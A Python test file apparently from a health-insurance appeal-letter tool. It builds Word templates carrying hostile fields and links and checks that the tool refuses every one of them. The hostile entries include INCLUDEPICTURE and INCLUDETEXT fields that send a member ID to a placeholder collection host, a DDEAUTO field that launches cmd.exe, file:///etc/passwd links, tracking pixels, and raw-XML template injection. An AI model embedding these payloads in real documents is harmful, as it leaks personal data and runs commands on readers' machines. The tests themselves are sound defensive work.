"""A template cannot send case data out of the letter through a Word field code or a link (issue 27, point 3).

Each hostile template is the built-in appeal letter with one field or relationship added by raw XML edits, as a
shared template would carry it. Every one is tried through `appeal templates check` and `appeal draft --templates`
in a child process with CPU and memory limits (the harness of test_template_security.py, which waits for the
child; the render budget the whole letter needs): each must end with a message naming the field or link, print no
traceback, write no letter, and leave the member ID in no file.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from conftest import docx_text
from docx import Document
from docx.oxml import parse_xml
from test_template_security import (EXAMPLE, LETTER_RENDER_SECONDS, assert_refused, check_args, draft_args,
                                    run_each)

from appeal.base.resources import bundled

MEMBER_ID = b"MHA884120537"  # the example case's member ID
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W = f'xmlns:w="{W_NS}"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
TAG = "{{ patient.member_id }}"


@pytest.fixture
def home(tmp_path):
    folder = tmp_path / "home"
    folder.mkdir()
    return folder


# --------------------------------------------------------------------------------------------------------------
# Building hostile templates


def complex_field(*pieces: str, result: str = "see here") -> str:
    """A field as Word writes it: begin, the instruction split over several runs, separate, result, end."""
    runs = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    runs += [f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces]
    runs += ['<w:r><w:fldChar w:fldCharType="separate"/></w:r>', f"<w:r><w:t>{result}</w:t></w:r>",
             '<w:r><w:fldChar w:fldCharType="end"/></w:r>']
    return "".join(runs)


def simple_field(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>see here</w:t></w:r></w:fldSimple>'


def paragraph(runs: str) -> str:
    return f'<w:p {W}><w:r><w:t xml:space="preserve">Our reference: </w:t></w:r>{runs}</w:p>'


def template_with_paragraph(folder: Path, xml: str, where: str = "body") -> Path:
    """The built-in appeal letter with one more paragraph of raw XML, in the body, its header or its footer."""
    document = Document(str(bundled("letter_templates") / "appeal.docx"))
    element = parse_xml(xml)
    if where == "body":
        body = document.element.body
        body.insert(len(body) - 1, element)  # before the section properties, which end a body
    else:
        section = document.sections[0]
        part = section.header if where == "header" else section.footer
        part.is_linked_to_previous = False
        part._element.append(element)
    path = folder / "appeal.docx"
    document.save(str(path))
    return path


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def _write(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)


def edit_package(folder: Path, rels: dict[str, str] | None = None, parts: dict[str, str] | None = None,
                 content_types: str = "", document_xml: str = "") -> Path:
    """The built-in appeal letter with relationships added to .rels parts, parts added or replaced, content types
    declared and a paragraph of raw XML added at the end of the body."""
    path = folder / "appeal.docx"
    template_with_paragraph(folder, paragraph(document_xml) if document_xml else f"<w:p {W}/>")
    package = _parts(path)
    for rels_part, relationship in (rels or {}).items():
        existing = package.get(rels_part, f'<Relationships xmlns="{PACKAGE_REL}"></Relationships>'.encode())
        package[rels_part] = existing.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")
    for name, xml in (parts or {}).items():
        package[name] = xml.encode()
    if content_types:
        package["[Content_Types].xml"] = package["[Content_Types].xml"].replace(b"</Types>",
                                                                              content_types.encode() + b"</Types>")
    _write(path, package)
    return path


def relationship(kind: str, target: str, external: bool = True, rid: str = "rIdOut") -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def notes_part(kind: str, field_xml: str) -> str:
    """A footnotes, endnotes or comments part whose one note holds `field_xml`."""
    root, note = {"footnotes": ("footnotes", "footnote"), "endnotes": ("endnotes", "endnote"),
                  "comments": ("comments", "comment")}[kind]
    return (f'<w:{root} {W}><w:{note} w:id="1"><w:p><w:r><w:t xml:space="preserve">Note: </w:t></w:r>{field_xml}'
            f"</w:p></w:{note}></w:{root}>")


def in_notes(kind: str, field_xml: str):
    content_type = f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"

    def make(folder: Path) -> Path:
        return edit_package(folder, rels={"word/_rels/document.xml.rels": relationship(kind, f"{kind}.xml", False)},
                            parts={f"word/{kind}.xml": notes_part(kind, field_xml)},
                            content_types=f'<Override PartName="/word/{kind}.xml" ContentType="{content_type}"/>')
    return make


def in_body(xml: str):
    return lambda folder: template_with_paragraph(folder, paragraph(xml))


def in_header_or_footer(where: str, xml: str):
    return lambda folder: template_with_paragraph(folder, paragraph(xml), where)


# --------------------------------------------------------------------------------------------------------------
# Refused: each field type, wherever it is, and each kind of outside link

URL = "http://collect.example.invalid/"
FIELDS = {
    "INCLUDEPICTURE split over runs, with a tag": (
        in_body(complex_field("INCLUDEPICTURE ", f'"{URL}{{', "{ patient.member_id }}", '.png" \\d')),
        "the INCLUDEPICTURE field in paragraph"),
    "INCLUDEPICTURE without a tag": (in_body(complex_field(f'INCLUDEPICTURE "{URL}logo.png"')),
                                     "the INCLUDEPICTURE field"),
    "includepicture in lower case": (in_body(complex_field(f' includepicture "{URL}{TAG}"')),
                                     "the INCLUDEPICTURE field"),
    "INCLUDETEXT": (in_body(complex_field(f'INCLUDETEXT "{URL}{TAG}"')), "the INCLUDETEXT field"),
    "INCLUDE": (in_body(complex_field('INCLUDE "\\\\\\\\server\\\\share\\\\x.docx"')), "the INCLUDE field"),
    "LINK": (in_body(complex_field('LINK Excel.Sheet.12 "C:\\\\data\\\\ids.xlsx" "Sheet1!R1C1"')),
             "the LINK field"),
    "DDE": (in_body(complex_field('DDE Excel "C:\\\\data\\\\ids.xlsx" R1C1')), "the DDE field"),
    "DDEAUTO": (in_body(complex_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
                "the DDEAUTO field"),
    "IMPORT": (in_body(complex_field(f'IMPORT "{URL}x.wmf"')), "the IMPORT field"),
    "RD": (in_body(complex_field('RD "\\\\\\\\server\\\\index.docx"')), "the RD field"),
    "DATABASE": (in_body(complex_field('DATABASE \\d "C:\\\\ids.mdb" \\s "select * from members"')),
                 "the DATABASE field"),
    "fldSimple INCLUDEPICTURE": (in_body(simple_field(f"INCLUDEPICTURE &quot;{URL}{TAG}&quot;")),
                                 "the INCLUDEPICTURE field"),
    "fldSimple INCLUDETEXT": (in_body(simple_field(f"INCLUDETEXT &quot;{URL}x&quot;")), "the INCLUDETEXT field"),
    "HYPERLINK with a tag": (in_body(complex_field(f'HYPERLINK "https://portal.example.invalid/?id=', TAG, '"')),
                             "the HYPERLINK field"),
    "fldSimple HYPERLINK with a tag": (in_body(simple_field(f"HYPERLINK &quot;https://x.invalid/{TAG}&quot;")),
                                       "the HYPERLINK field"),
    "HYPERLINK to a shared folder": (in_body(complex_field('HYPERLINK "\\\\\\\\server\\\\share\\\\letter.docx"')),
                                     "not a web page"),
    "HYPERLINK to a file": (in_body(complex_field('HYPERLINK "file:///etc/passwd"')), "not a web page"),
    "PAGE with a tag": (in_body(complex_field(f"PAGE {TAG}")), "the PAGE field"),
    "a tag in an internal link": (in_body(complex_field('HYPERLINK \\l "', "{{ patient.last_name }}", '"')),
                                  "the HYPERLINK field"),
    "a name made by a nested field": (
        in_body('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + complex_field('QUOTE "INCLUDEPICTURE"',
                                                                                  result="INCLUDEPICTURE")
                + f'<w:r><w:instrText xml:space="preserve"> "{URL}x.png"</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r>'),
        "made by another field"),
    "a tag in a nested field's result": (
        in_body('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText xml:space="preserve">HYPERLINK "https://x.invalid/</w:instrText></w:r>'
                + complex_field('QUOTE "id"', result=TAG)
                + '<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'),
        "the HYPERLINK field"),
    "in a header": (in_header_or_footer("header", complex_field(f'INCLUDEPICTURE "{URL}{TAG}"')), "a header"),
    "in a footer": (in_header_or_footer("footer", simple_field(f"INCLUDETEXT &quot;{URL}{TAG}&quot;")),
                    "a footer"),
    "in the footnotes": (in_notes("footnotes", complex_field(f'INCLUDEPICTURE "{URL}{TAG}"')), "the footnotes"),
    "in the endnotes": (in_notes("endnotes", complex_field(f'INCLUDETEXT "{URL}x"')), "the endnotes"),
    "in the comments": (in_notes("comments", simple_field(f"INCLUDEPICTURE &quot;{URL}x&quot;")), "the comments"),
}

_SETTINGS_RELS = "word/_rels/settings.xml.rels"
_DOCUMENT_RELS = "word/_rels/document.xml.rels"
_LINKED_PICTURE = (
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="9525" cy="9525"/><wp:docPr id="900" name="tracker"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
    '<pic:cNvPr id="900" name="tracker"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
    f'<a:blip xmlns:r="{REL}" r:link="rIdOut"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r>")
_VML_PICTURE = ('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:1pt;height:1pt">'
                f'<v:imagedata src="{URL}pixel.png"/></v:shape></w:pict></w:r>')


def _mail_merge(folder: Path) -> Path:
    """Settings naming a mail merge data source, and the relationship to that source."""
    path = edit_package(folder, rels={_SETTINGS_RELS: relationship("mailMergeSource", "file:///C:/data/members.csv",
                                                                   rid="rIdSource")})
    package = _parts(path)
    package["word/settings.xml"] = package["word/settings.xml"].replace(
        b"</w:settings>", f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource xmlns:r="{REL}" '
                          f'r:id="rIdSource"/></w:mailMerge></w:settings>'.encode())
    _write(path, package)
    return path


RELATIONSHIPS = {
    "linked picture (DrawingML r:link)": (
        lambda folder: edit_package(folder, rels={_DOCUMENT_RELS: relationship("image", f"{URL}pixel.png")},
                                    document_xml=_LINKED_PICTURE),
        "a linked picture in the body"),
    "VML picture with an address": (in_body(_VML_PICTURE), "a picture in paragraph"),
    "attached template": (
        lambda folder: edit_package(folder, rels={_SETTINGS_RELS: relationship("attachedTemplate",
                                                                                "http://x.invalid/t.dotm")}),
        "an attached template in the settings"),
    "external altChunk": (
        lambda folder: edit_package(folder, rels={_DOCUMENT_RELS: relationship("aFChunk", f"{URL}part.html")},
                                    document_xml=""),
        "an imported document (altChunk)"),
    "internal altChunk": (
        lambda folder: edit_package(
            folder, rels={_DOCUMENT_RELS: relationship("aFChunk", "chunk.html", external=False)},
            parts={"word/chunk.html": f'<html><body><img src="{URL}pixel.png"></body></html>'},
            content_types='<Default Extension="html" ContentType="application/xhtml+xml"/>'),
        "an imported document (altChunk)"),
    "subdocument": (
        lambda folder: edit_package(folder, rels={_DOCUMENT_RELS: relationship("subDocument",
                                                                                "\\\\server\\share\\sub.docx")}),
        "a subdocument in the body"),
    "linked OLE object": (
        lambda folder: edit_package(folder, rels={_DOCUMENT_RELS: relationship("oleObject",
                                                                                "file:///C:/data/ids.xlsx")}),
        "a linked object (OLE)"),
    "hyperlink relationship to a file": (
        lambda folder: edit_package(folder, rels={_DOCUMENT_RELS: relationship("hyperlink", "file:///etc/passwd")}),
        "not a web page"),
    "mail merge data source": (_mail_merge, "mail merge"),
}


def member_id_in(folder: Path) -> list[str]:
    """Every file under `folder` (and every part of every zip) that holds the member ID."""
    found = []
    for path in folder.rglob("*"):
        if not path.is_file():
            continue
        data = path.read_bytes()
        if MEMBER_ID in data:
            found.append(str(path))
        if zipfile.is_zipfile(io.BytesIO(data)):
            with zipfile.ZipFile(io.BytesIO(data)) as package:
                found += [f"{path}:{name}" for name in package.namelist() if MEMBER_ID in package.read(name)]
    return found


def run_letter(commands: list[list[str]], home: Path) -> list[tuple[int, str]]:
    """Each `appeal ARGS` of `commands` in one bounded child (test_template_security.run_each), with the render
    budget a whole letter needs: these templates are the built-in letter."""
    return run_each(commands, home, LETTER_RENDER_SECONDS)[0]


def refused_everywhere(make, expected: str, home: Path) -> None:
    folder = home / "shared-templates"
    folder.mkdir(mode=0o700)
    template = make(folder)
    (status, output), drafted = run_letter([check_args(template), draft_args(folder)], home)
    assert_refused(status, output, expected, home)
    assert "appeal.docx" in output, output
    status, output = drafted
    assert_refused(status, output, expected, home)
    assert "appeal.docx" in output, output
    assert MEMBER_ID.decode() not in output
    assert not member_id_in(home), member_id_in(home)


@pytest.mark.parametrize("hostile", FIELDS, ids=list(FIELDS))
def test_a_field_that_reaches_outside_or_holds_a_tag_is_refused(hostile, home):
    refused_everywhere(*FIELDS[hostile], home)


@pytest.mark.parametrize("hostile", RELATIONSHIPS, ids=list(RELATIONSHIPS))
def test_a_link_outside_the_package_is_refused(hostile, home):
    refused_everywhere(*RELATIONSHIPS[hostile], home)


def test_batch_refuses_the_template_and_writes_nothing(home):
    folder = home / "shared-templates"
    folder.mkdir(mode=0o700)
    FIELDS["INCLUDEPICTURE split over runs, with a tag"][0](folder)
    (status, output), = run_letter([["batch", str(EXAMPLE), "-o", "letters", "--templates", str(folder)]], home)
    assert status == 1 and "Traceback" not in output, output
    assert "INCLUDEPICTURE field" in output, output
    assert not [path for path in home.rglob("*.docx") if path.parent != folder], "a letter was written"
    assert not member_id_in(home)


def test_the_message_says_where_and_what_to_do(home):
    folder = home / "shared-templates"
    folder.mkdir(mode=0o700)
    template = FIELDS["INCLUDEPICTURE split over runs, with a tag"][0](folder)
    (status, output), = run_letter([check_args(template)], home)
    assert status == 1, output
    assert 'the INCLUDEPICTURE field in paragraph' in output and '("Our reference: see here")' in output, output
    assert "paste the picture into the template itself" in output, output


# --------------------------------------------------------------------------------------------------------------
# Built by the render: raw XML printed with |safe or autoescape off. Both are refused when the template is read;
# the render's own before/after comparison of fields (render.render_document) stays as the second wall.

RAW_FIELD = ("</w:t></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>INCLUDEPICTURE "
             f"\"{URL}' ~ patient.member_id ~ '\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
             "<w:r><w:t>")
BUILT = {
    "|safe": "{{ ('" + RAW_FIELD + "') | safe }}",
    "autoescape false": "{% autoescape false %}{{ '" + RAW_FIELD + "' }}{% endautoescape %}",
    "a VML picture by |safe": ("{{ ('</w:t></w:r><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\">"
                               f"<v:imagedata src=\"{URL}' ~ patient.member_id ~ '\"/></v:shape></w:pict></w:r>"
                               "<w:r><w:t>') | safe }}"),
}


def with_tag_paragraph(tag: str):
    def make(folder: Path) -> Path:
        document = Document(str(bundled("letter_templates") / "appeal.docx"))
        document.add_paragraph(tag)
        document.save(str(folder / "appeal.docx"))
        return folder / "appeal.docx"
    return make


@pytest.mark.parametrize("attack", BUILT, ids=list(BUILT))
def test_a_field_built_while_rendering_is_refused(attack, home):
    expected = "{% autoescape %} is not allowed" if "autoescape" in attack else "|safe would print its text as raw"
    refused_everywhere(with_tag_paragraph(BUILT[attack]), expected, home)


def test_the_render_compares_fields_before_and_after():
    """The second wall, should some other way to print raw XML appear: a field in the rendered letter that the
    template did not hold is named (never its text), and nothing new means no message."""
    from appeal.letters import template_fields

    body = ('<w:body xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:t>Dear'
            '</w:t></w:r></w:p>{}</w:body>')
    before = template_fields.external_marks([("word/document.xml", parse_xml(body.format("")))])
    made = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "http://h/MHA1"'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    after = template_fields.external_marks([("word/document.xml", parse_xml(body.format(made)))])
    message = template_fields.new_external("mine.docx", before, after)
    assert message and "made the INCLUDEPICTURE field" in message and "mine.docx" in message
    assert "MHA1" not in message and "http" not in message
    assert template_fields.new_external("mine.docx", before, before) is None


# --------------------------------------------------------------------------------------------------------------
# Allowed: fields and links that fetch nothing and hold no tag


def test_a_typed_web_link_and_a_page_number_are_kept(home):
    """A HYPERLINK field to a regulator's https page and a PAGE field, typed by the template's author: the check
    passes, and the letter holds both fields exactly as typed."""
    folder = home / "shared-templates"
    folder.mkdir(mode=0o700)
    address = "https://www.dol.gov/agencies/ebsa"
    edit_package(folder, rels={_DOCUMENT_RELS: relationship("hyperlink", "https://www.healthcare.gov/appeal-insurance-company-decision/", rid="rIdWeb")},
                 document_xml=complex_field(f'HYPERLINK "{address}"', result="the EBSA's page")
                 + complex_field(" PAGE ", result="1")
                 + f'<w:hyperlink xmlns:r="{REL}" r:id="rIdWeb"><w:r><w:t>HealthCare.gov</w:t></w:r></w:hyperlink>')
    (status, output), drafted = run_letter([check_args(folder / "appeal.docx"), draft_args(folder)], home)
    assert status == 0, output
    status, output = drafted
    assert status == 0 and "Traceback" not in output, output
    letter = home / "out.docx"
    text = docx_text(letter)
    assert "Our reference: the EBSA's page1HealthCare.gov" in text
    body = _parts(letter)["word/document.xml"].decode()
    assert f'HYPERLINK "{address}"' in body and " PAGE " in body


def test_an_instruction_is_joined_across_runs_and_nested_fields():
    """What the check judges: the pieces of one instruction joined, a nested field's text inside its outer one, the
    name read from the field's own words only."""
    from appeal.letters.template_fields import fields

    root = parse_xml(paragraph(
        complex_field("HYPER", 'LINK "https://x.invalid/a', 'b"') +
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
        + complex_field("PAGE", result="7") + '<w:r><w:instrText>"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + simple_field("NUMPAGES")))
    found = {item.name: item.instruction for item in fields(root)}
    assert found == {"HYPERLINK": 'HYPERLINK "https://x.invalid/ab"', "PAGE": "PAGE", "IF": ' IF 1 = 1 "PAGE7"',
                     "NUMPAGES": "NUMPAGES"}
